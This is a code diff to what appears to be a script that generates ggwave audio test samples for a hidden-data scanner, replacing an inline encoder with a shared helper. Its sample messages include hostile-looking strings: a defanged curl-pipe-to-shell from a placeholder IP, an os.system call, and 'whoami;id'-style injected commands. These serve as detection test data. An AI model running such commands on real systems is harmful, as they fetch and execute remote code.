@@ -17,7 +17,6 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { execFileSync, spawnSync } from 'node:child_process';
-import { createRequire } from 'node:module';
 import { defang } from '../src/decode/index.js';
 import { findMultitoneIn } from '../src/audio/multitone.js';
 import { computeSpectrogram } from '../src/audio/stft.js';
@@ -26,6 +25,7 @@ import { ANALYZERS } from '../src/analyzers/index.js';
 import { defaultOptions } from '../src/options.js';
 import type { Finding } from '../src/types.js';
 import { audioWork } from '../src/audio/decode.js';
+import { ggwaveSignal } from '../__tests__/helpers/ggwave.js';
 import { pairsOfValues, silence, spa, ws, wsBlocks, wsRange } from '../src/audio/lsb.js';
 import type { AudioSignal } from '../src/audio/types.js';
 import {
@@ -409,20 +409,6 @@ async function main(): Promise<void> {
 
   // ---- multi-tone data over sound (ggwave, generic MFSK)
   if (want('multitone')) {
-    type GG = import('ggwave').GgwaveModule;
-    const gg = await (createRequire(import.meta.url)('ggwave') as (o: object) => Promise<GG>)({ print: () => undefined, printErr: () => undefined });
-    const encode = (text: string, protocol: string, rate: number, volume: number): Float32Array => {
-      const p = gg.getDefaultParameters();
-      p.sampleRateInp = rate;
-      p.sampleRateOut = rate;
-      const inst = gg.init(p);
-      try {
-        const wf = gg.encode(inst, text, gg.ProtocolId[`GGWAVE_PROTOCOL_${protocol}`], volume);
-        return new Float32Array(wf.buffer.slice(wf.byteOffset, wf.byteOffset + wf.byteLength));
-      } finally {
-        gg.free(inst);
-      }
-    };
     const msgs = ['curl -s hxxp://203.0.113.5/p | sh', 'import os; os.system("id")', 'whoami;id', 'key=3f9a1c0b77e2d4a8', 'A'.repeat(40), 'https://example.org/update?id=12345'];
     const N = QUICK ? 2 : 6;
     for (const proto of ['AUDIBLE_NORMAL', 'AUDIBLE_FAST', 'AUDIBLE_FASTEST', 'ULTRASOUND_NORMAL', 'ULTRASOUND_FAST', 'ULTRASOUND_FASTEST', 'DT_NORMAL', 'DT_FAST', 'DT_FASTEST']) {
@@ -431,7 +417,7 @@ async function main(): Promise<void> {
       for (let k = 0; k < N; k++) {
         const rate = proto.startsWith('ULTRA') ? [44100, 48000][k % 2] : [44100, 48000, 22050][k % 3];
         const msg = msgs[k % msgs.length];
-        const tx = encode(msg, proto, rate, [10, 25, 50][k % 3]);
+        const tx = await ggwaveSignal(msg, proto, rate, [10, 25, 50][k % 3]);
         const lead = Math.round(rate * (0.3 + 0.2 * (k % 3)));
         const x = new Float32Array(tx.length + 2 * lead);
         x.set(tx, lead);
@@ -448,7 +434,7 @@ async function main(): Promise<void> {
     const tiny: Item[] = [];
     for (const [k, proto] of ['AUDIBLE_NORMAL', 'AUDIBLE_FAST', 'AUDIBLE_FASTEST', 'ULTRASOUND_FAST', 'DT_FAST', 'DT_FASTEST'].entries()) {
       const rate = [44100, 48000][k % 2];
-      const tx = encode(['hi', 'ok!'][k % 2], proto, rate, 25);
+      const tx = await ggwaveSignal(['hi', 'ok!'][k % 2], proto, rate, 25);
       const x = new Float32Array(tx.length + rate);
       x.set(tx, rate / 2);
       tiny.push({ name: `gg-tiny-${proto}.wav`, data: wavFile(toInt16(x, true), { rate }) });
@@ -458,7 +444,7 @@ async function main(): Promise<void> {
     for (const [k, proto] of ['AUDIBLE_NORMAL', 'AUDIBLE_FAST', 'AUDIBLE_FASTEST', 'ULTRASOUND_NORMAL', 'ULTRASOUND_FASTEST', 'DT_NORMAL', 'DT_FAST', 'DT_FASTEST'].entries()) {
       for (const [j, msg] of ['wget x', 'id;ls', 'abcdefgh'].entries()) {
         const rate = [44100, 48000][(k + j) % 2];
-        const tx = encode(msg, proto, rate, 25);
+        const tx = await ggwaveSignal(msg, proto, rate, 25);
         const x = new Float32Array(tx.length + rate);
         x.set(tx, rate / 2);
         short.push({ name: `gg-short-${proto}-${j}.wav`, data: wavFile(toInt16(x, true), { rate }) });
